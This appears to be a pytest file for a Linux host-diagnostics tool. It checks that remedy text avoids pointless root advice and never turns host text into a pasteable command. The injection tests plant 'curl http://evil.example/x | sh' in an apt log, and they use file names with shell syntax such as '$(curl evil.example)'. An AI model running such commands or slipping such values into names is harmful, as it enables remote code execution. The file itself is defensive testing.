"""Remedies are for what really happened, and never a pasteable copy of host text:
every remedy of every area, on sample hosts whose sections were all made unreadable one
way, and on hostile trees whose names and logs carry a command."""

from __future__ import annotations

import dataclasses
import re
import shutil
from datetime import datetime
from pathlib import Path

import pytest

from cockpit.engine import judge_snapshot
from cockpit.snapshot import Section, Sections
from tests.support import SAMPLES, collect_root, judge_root

AT = datetime.fromisoformat("2024-06-12T20:00:00+00:00")
ROOT_ADVICE = re.compile(r"with root rights|Run cockpit with root|\(sudo\)|sudo = true")
#: Sections left as they are: what tells the engine it reads a Linux tree as root.
_KEEP = ("host.", "boot.viewer-devices")


def _every_section(state: str, uid: str) -> Sections:
    snap = collect_root(SAMPLES / "debian12-systemd")
    out = {}
    for name, sec in snap.sections.items():
        if name.startswith(_KEEP):
            out[name] = sec
        else:
            text = "cut 450 400\n" if state == "cut" else ""
            out[name] = dataclasses.replace(sec, state=state, text=text)
    out["host.uid"] = Section("host.uid", "ok", 0, f"{uid}\t{uid}\t{uid}\t{uid}\n")
    return Sections(out)


@pytest.mark.parametrize("state", ["cut", "loop", "foreign", "dangling", "timeout", "denied"])
def test_no_remedy_asks_for_root_rights_when_they_would_not_help(state: str) -> None:
    """Everything cut, looping, foreign, dangling or timed out: root rights read none of
    it, so no remedy of any area advises them; everything denied while cockpit already
    reads as root: the same."""
    snap = collect_root(SAMPLES / "debian12-systemd")
    snap = dataclasses.replace(snap, sections=_every_section(state, "0"))
    found = judge_snapshot(snap, AT).findings
    assert found, "an unreadable host must say something"
    bad = [(f.id, f.remedy) for f in found if ROOT_ADVICE.search(f.remedy)]
    assert bad == []


def test_denied_as_another_user_still_advises_root_rights() -> None:
    snap = collect_root(SAMPLES / "debian12-systemd")
    snap = dataclasses.replace(snap, sections=_every_section("denied", "1000"))
    found = judge_snapshot(snap, AT).findings
    assert any(ROOT_ADVICE.search(f.remedy) for f in found)


EVIL = "curl http://evil.example/x | sh"


def test_a_hostile_commandline_is_evidence_never_the_fix(tmp_path: Path) -> None:
    """apt's history.log is host text: its `Commandline:` was pasted into the remedy as
    "re-run: <commandline>", so `...; curl ... | sh` was on screen as the fix."""
    root = tmp_path / "host"
    shutil.copytree(SAMPLES / "ubuntu2204-dpkg-interrupted", root, symlinks=True)
    log = root / "var/log/apt/history.log"
    log.write_text(
        log.read_text().replace(
            "Commandline: apt-get -y dist-upgrade", f"Commandline: apt-get -y dist-upgrade; {EVIL}"
        )
    )
    state = judge_root(root, (SAMPLES / "ubuntu2204-dpkg-interrupted/AT").read_text().strip())
    (f,) = [f for f in state.findings if f.id == "packages.transaction-interrupted"]
    assert any(EVIL in e for e in f.evidence)  # quoted as evidence
    assert all("curl" not in g.remedy for g in state.findings)


def test_host_names_enter_a_command_only_as_one_plain_word(tmp_path: Path) -> None:
    """A crontab owner, an at job and a timer named with shell syntax: each remedy's
    command carries a placeholder, the evidence the real name."""
    root = tmp_path / "host"
    shutil.copytree(SAMPLES / "debian12-systemd", root, symlinks=True)
    spool = root / "var/spool/cron/crontabs"
    spool.mkdir(parents=True, exist_ok=True)
    (spool / "x;curl evil.example|sh").write_text("15 3 * * * /sbin/reboot\n")
    units = root / "etc/systemd/system"
    (units / "n$(curl evil.example).timer").write_text("[Timer]\nOnCalendar=daily\n")
    (units / "n$(curl evil.example).service").write_text("[Service]\nExecStart=/sbin/reboot\n")
    state = judge_root(root, "2024-06-12T20:00:00+00:00")
    ids = {f.id for f in state.findings}
    assert {"reboots.cron-reboot", "reboots.timer-reboot"} <= ids, ids
    assert all("curl" not in f.remedy for f in state.findings), [
        f.remedy for f in state.findings if "curl" in f.remedy
    ]
    cron = next(f for f in state.findings if f.id == "reboots.cron-reboot")
    assert "crontab -u USER -e" in cron.remedy


def test_the_plain_word_rule() -> None:
    from cockpit.rules.pasteable import word

    for plain in ("root", "6.1.0-18-amd64", "/usr/lib/systemd/systemd", "sshd@eth0.service"):
        assert word(plain, "X") == plain
    for hostile in ("a;b", "$(x)", "`x`", "a b", "-rf", "a|b", "a&b", "x\n", "'q'", "*", ""):
        assert word(hostile, "X") == "X"
